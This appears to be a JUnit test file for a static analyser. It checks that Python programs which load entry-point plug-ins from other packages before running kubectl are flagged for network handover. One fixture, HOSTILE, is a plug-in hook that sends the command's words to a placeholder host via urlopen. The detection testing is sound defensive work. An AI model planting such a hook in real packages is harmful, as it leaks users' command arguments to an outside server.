package dev.auditpath.behaviour;

import static org.assertj.core.api.Assertions.assertThat;

import dev.auditpath.model.Behaviour;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Entry points that other distributions register and a program loads. */
class PlugInsTest {
  private static final String GROUP = "tool.before";
  private static final String HOSTILE =
      """
      import urllib.request
      def before(words):
          urllib.request.urlopen("https://a.invalid/", " ".join(words).encode())
          return words
      """;

  @ParameterizedTest
  @ValueSource(
      strings = {
        "for p in entry_points(group=G): words = p.load()(words)",
        "for p in sorted(entry_points(group=G), key=lambda p: p.name): p.load()(words)",
        "for p in [p for p in entry_points(group=G) if p.name != 'x']: p.load()(words)",
        "[p.load() for p in entry_points().select(group=G)][0](words)",
        "for p in entry_points()[G]: p.load()(words)",
        "for p in entry_points().get(G, ()): p.load()(words)",
        "next(iter(entry_points(group=G))).load()(words)",
        "entry_points(group=G)['diff'].load()(words)",
        "list(filter(lambda p: p.name, entry_points(group=G)))[0].load()(words)",
        "{p.name: p.load() for p in entry_points(group=G)}[words[0]](words)",
        "for p in pkg_resources.iter_entry_points(G): p.resolve()(words)",
        "pkg_resources.load_entry_point('other', G, 'diff')(words)",
        "for p in entry_points(group=G): importlib.import_module(p.module).before(words)",
        "importlib.metadata.EntryPoint('x', 'other_package.hook:before', G).load()(words)"
      })
  void thePlugInOfAnotherDistributionIsFollowed(String loading) {
    Behaviour behaviour =
        program(loading)
            .with("other_package.hook", HOSTILE)
            .withPlugIn(GROUP, "diff", "other_package.hook", "before")
            .analyse();
    assertThat(Sources.summary(behaviour))
        .as(String.join("\n", Sources.lines(behaviour)))
        .contains("hands-over:kubectl")
        .contains("network")
        .doesNotContain("unread");
  }

  @Test
  void aPlugInThatIsInnocentIsNoFinding() {
    Behaviour behaviour =
        program("for p in entry_points(group=G): words = p.load()(words) or words")
            .with(
                "other_package.hook",
                "def before(words):\n    print(len(words))\n    return words\n")
            .withPlugIn(GROUP, "diff", "other_package.hook", "before")
            .withPlugIn("tool.after", "net", "other_package.net", "after")
            .with("other_package.net", HOSTILE.replace("before", "after"))
            .analyse();
    assertThat(Sources.summary(behaviour)).isEqualTo("hands-over:kubectl");
  }

  @Test
  void whereNothingIsRegisteredNothingIsLoaded() {
    Behaviour behaviour =
        program("for p in entry_points(group=G): words = p.load()(words) or words").analyse();
    assertThat(Sources.summary(behaviour)).isEqualTo("hands-over:kubectl");
  }

  @Test
  void aModuleThatIsCalledAsThePlugInsHereAreIsNone() {
    Behaviour behaviour =
        program("importlib.import_module('plug_in(7)').load()(words)")
            .withPlugIn(GROUP, "diff", "other_package.hook", "before")
            .analyse();
    assertThat(Sources.summary(behaviour)).isEqualTo("hands-over:kubectl");
  }

  @Test
  void moreThanAreReadAreToldOf() {
    Sources sources = program("for p in entry_points(group=G): p.load()(words)");
    for (int i = 0; i < Modules.MOST_NAMES; i++) {
      sources.withPlugIn(GROUP, "p" + i, "other_package.hook", "before");
    }
    assertThat(Sources.summary(sources.with("other_package.hook", "").analyse()))
        .contains("unread");
  }

  private static Sources program(String loading) {
    return Sources.of(
            """
            import importlib.metadata, os, pkg_resources, sys
            from importlib.metadata import entry_points
            G = "tool.before"
            def run(words):
                LOADING
                return words
            def main():
                words = run(sys.argv[1:])
                os.execv("/usr/bin/kubectl", ["kubectl", *words])
            """
                .replace("LOADING", loading))
        .with("other_package", "")
        .as("kubectl");
  }
}
